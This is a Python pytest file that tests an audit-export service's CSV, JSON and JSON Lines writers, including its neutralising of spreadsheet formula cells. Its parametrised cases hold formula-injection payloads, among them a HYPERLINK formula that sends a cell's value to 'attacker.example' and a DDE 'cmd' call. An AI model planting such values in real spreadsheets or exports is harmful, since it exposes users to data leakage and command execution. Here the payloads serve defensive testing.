"""Output formats: CSV (RFC 4180, formula neutralisation, BOM), the JSON envelope, JSON Lines."""

from __future__ import annotations

import csv
import io
import json

import pytest

from export_service.logic.formats import (
    CONTENT_TYPES,
    CsvWriter,
    ExportFormat,
    JsonArrayWriter,
    JsonLinesWriter,
    make_writer,
    neutralise_cell,
    wrap_envelope,
)
from export_service.models.audit import AUDIT_COLUMNS
from tests.helpers import CSV_HEADER

pytestmark = pytest.mark.unit

ROW = {
    "id": "audit-20260301-001",
    "timestamp": "2026-03-01T00:05:00.000Z",
    "action": "runbook.create",
    "user": "admin@empresa.com",
    "role": "admin",
    "resource": "runbook-disk-cleanup",
    "resourceType": "Runbook",
    "namespace": "production",
    "sourceIP": "10.0.1.10",
    "checksum": "sha256:2819f33f6cf144aa337fbf5678fcf2040aa23c09804b1ac2f7c562a56ea7f122",
    "eventType": "runbook",
    "subType": "created",
    "systemSource": "task_platform",
    "auditeeId": "usr_0a1b2c3d4e5f",
    "metadata": '{"entity_id":"e-1","tag":"db"}',
}
ROW_CSV = (
    "audit-20260301-001,2026-03-01T00:05:00.000Z,runbook.create,admin@empresa.com,admin,runbook-disk-cleanup,"
    "Runbook,production,10.0.1.10,sha256:2819f33f6cf144aa337fbf5678fcf2040aa23c09804b1ac2f7c562a56ea7f122,"
    'runbook,created,task_platform,usr_0a1b2c3d4e5f,"{""entity_id"":""e-1"",""tag"":""db""}"\r\n'
)


def _csv(*rows: dict, bom: bool = False) -> str:
    out = io.StringIO()
    writer = CsvWriter(out, AUDIT_COLUMNS, bom=bom)
    for row in rows:
        writer.write(row)
    return out.getvalue()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://attacker.example","x")', '\'=HYPERLINK("http://attacker.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tTAB-led runbook", "'\tTAB-led runbook"),
        ("\rcarriage", "'\rcarriage"),
        ("\nnewline", "'\nnewline"),
    ],
)
def test_formula_cells_get_an_apostrophe(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize(
    "value", ["", "runbook-disk-cleanup", "admin@empresa.com", "a=b", "10.0.1.10", "INC-20260301-001", "'quoted"]
)
def test_ordinary_cells_are_untouched(value):
    assert neutralise_cell(value) == value


def test_csv_header_is_runbook_audit_columns_in_order_with_crlf():
    assert tuple(CSV_HEADER.split(",")) == AUDIT_COLUMNS
    assert _csv() == CSV_HEADER + "\r\n"


def test_csv_row_is_plain_when_nothing_needs_quoting():
    assert _csv(ROW) == CSV_HEADER + "\r\n" + ROW_CSV


def test_csv_quotes_commas_quotes_and_newlines_rfc4180():
    row = {**ROW, "resource": 'runbook "quoted", with comma\nand newline', "role": "a,b"}
    body = _csv(row)
    expected_row = ROW_CSV.replace(
        ",admin,runbook-disk-cleanup,", ',"a,b","runbook ""quoted"", with comma\nand newline",'
    )
    assert body == CSV_HEADER + "\r\n" + expected_row
    # And a CSV reader gets the original values back
    assert list(csv.reader(io.StringIO(body, newline="")))[1] == [row[column] for column in AUDIT_COLUMNS]


def test_csv_neutralises_and_quotes_formula_cells():
    body = _csv({**ROW, "resource": '=HYPERLINK("http://attacker.example/?leak="&A1,"open report")'})
    assert ',"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""open report"")",' in body
    parsed = list(csv.reader(io.StringIO(body, newline="")))[1]
    assert parsed[AUDIT_COLUMNS.index("resource")] == '\'=HYPERLINK("http://attacker.example/?leak="&A1,"open report")'


def test_csv_missing_and_none_values_are_empty_cells():
    body = _csv({"id": "audit-1", "timestamp": "2026-03-01T00:00:00.000Z", "action": "user.login", "role": None})
    assert body.splitlines()[1] == "audit-1,2026-03-01T00:00:00.000Z,user.login,,,,,,,,,,,,"


def test_csv_bom_option():
    assert _csv(ROW, bom=True) == "\ufeff" + CSV_HEADER + "\r\n" + ROW_CSV
    assert not _csv(ROW).startswith("\ufeff")


def test_json_lines_one_compact_record_per_line_in_column_order():
    out = io.StringIO()
    writer = JsonLinesWriter(out, AUDIT_COLUMNS)
    writer.write(dict(reversed(list(ROW.items()))))
    writer.write({"id": "audit-2", "user": "josé@empresa.com", "unexpected": "dropped"})
    first, second = out.getvalue().split("\n")[:2]
    assert out.getvalue().endswith("\n")
    assert out.getvalue().count("\n") == 2
    assert first == json.dumps(ROW, separators=(",", ":"))
    assert list(json.loads(first)) == list(AUDIT_COLUMNS)
    assert json.loads(second) == {column: "" for column in AUDIT_COLUMNS} | {
        "id": "audit-2",
        "user": "josé@empresa.com",
    }
    assert "josé" in second  # UTF-8 kept, not \\u escaped


def test_json_envelope_around_records():
    out = io.StringIO()
    writer = JsonArrayWriter(out, AUDIT_COLUMNS)
    writer.write(ROW)
    writer.write({**ROW, "id": "audit-20260301-002"})
    metadata = {
        "exportedAt": "2026-03-19T16:00:00.000Z",
        "from": "2026-03-01T00:00:00.000Z",
        "to": "2026-03-19T16:00:00.000Z",
        "totalRecords": 2,
        "format": "json",
    }
    body = wrap_envelope("AuditExport", metadata, out.getvalue())
    assert body.startswith('{"apiVersion":"v1","kind":"AuditExport","metadata":{"exportedAt":')
    assert json.loads(body) == {
        "apiVersion": "v1",
        "kind": "AuditExport",
        "metadata": metadata,
        "records": [ROW, {**ROW, "id": "audit-20260301-002"}],
    }


def test_json_envelope_with_no_records_is_valid():
    body = wrap_envelope("AuditExport", {"totalRecords": 0}, "")
    assert body == '{"apiVersion":"v1","kind":"AuditExport","metadata":{"totalRecords":0},"records":[]}'


@pytest.mark.parametrize(
    ("fmt", "writer_type", "content_type"),
    [
        (ExportFormat.CSV, CsvWriter, "text/csv; charset=utf-8"),
        (ExportFormat.JSON, JsonArrayWriter, "application/json"),
        (ExportFormat.JSONL, JsonLinesWriter, "application/x-ndjson"),
    ],
)
def test_make_writer_and_content_types(fmt, writer_type, content_type):
    assert isinstance(make_writer(fmt, io.StringIO(), AUDIT_COLUMNS), writer_type)
    assert CONTENT_TYPES[fmt] == content_type
